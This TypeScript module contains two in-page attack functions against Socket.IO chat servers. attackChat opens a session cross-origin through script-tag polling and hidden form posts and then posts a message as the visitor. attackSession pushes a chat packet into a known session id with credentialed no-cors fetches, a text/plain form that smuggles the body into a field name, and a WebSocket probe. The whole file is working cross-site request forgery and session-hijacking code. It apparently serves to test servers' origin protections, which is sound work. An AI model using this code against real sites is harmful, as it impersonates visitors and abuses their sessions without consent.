/**
 * Runs inside the page, from its source text. Takes part in the chat of another server as the visitor, without requests
 * that need CORS: script elements open and read a session, forms post to it.
 *
 * @returns what the page could read
 */
export async function attackChat(server: string, text: string): Promise<string[]> {
  const read: string[] = []
  const poll = `${server}/socket.io/?EIO=4&transport=polling`
  Object.assign(globalThis, { ___eio: [(payload: string) => read.push(payload)] })

  function run(query: string): Promise<unknown> {
    const script = document.createElement('script')
    const done = new Promise((resolve) => {
      script.addEventListener('load', resolve)
      script.addEventListener('error', resolve)
    })
    script.src = poll + query
    document.head.append(script)
    return done
  }

  function post(query: string, packet: string): Promise<unknown> {
    const frame = document.createElement('iframe')
    frame.name = `frame-${document.querySelectorAll('iframe').length}`
    const form = document.createElement('form')
    Object.assign(form, { method: 'POST', action: poll + query, target: frame.name })
    const input = document.createElement('input')
    Object.assign(input, { name: 'd', value: packet })
    form.append(input)
    document.body.append(frame, form)
    const done = new Promise((resolve) => frame.addEventListener('load', resolve))
    form.submit()
    return done
  }

  await run('')
  await run('&j=0')
  const session = /"sid":"([^"]+)"/.exec(read[0] ?? '')?.[1]
  if (session === undefined) return read
  await post(`&j=0&sid=${session}`, '40')
  await run(`&j=0&sid=${session}`)
  await post(`&j=0&sid=${session}`, `42["say",${JSON.stringify(text)}]`)
  await run(`&j=0&sid=${session}`)
  return read
}

/** Runs inside the page, from its source text. Sends everything that a page can send to a session whose id it knows. */
export async function attackSession(server: string, session: string, text: string): Promise<void> {
  const url = `${server}/socket.io/?EIO=4&transport=polling&sid=${session}`
  const body = `42["say",${JSON.stringify(text)}]`
  const credentials = 'include'
  await fetch(url, { method: 'POST', mode: 'no-cors', credentials, body }).catch(() => {})
  await fetch(url, { method: 'POST', credentials, body }).catch(() => {})
  await fetch(url, { mode: 'no-cors', credentials }).catch(() => {})
  const form = document.createElement('form')
  const frame = document.createElement('iframe')
  frame.name = 'plain'
  Object.assign(form, { method: 'POST', action: url, target: 'plain', enctype: 'text/plain' })
  const input = document.createElement('input')
  // A form sends `name=value`, so the equals sign is part of the text.
  Object.assign(input, { name: body.slice(0, -2), value: '"]' })
  form.append(input)
  document.body.append(frame, form)
  const sent = new Promise((resolve) => frame.addEventListener('load', resolve))
  form.submit()
  await sent
  const socket = new WebSocket(
    `${server.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket&sid=${session}`,
  )
  await new Promise<unknown>((resolve) => {
    socket.addEventListener('open', () => socket.send('2probe'))
    socket.addEventListener('message', resolve)
    socket.addEventListener('close', resolve)
  })
}
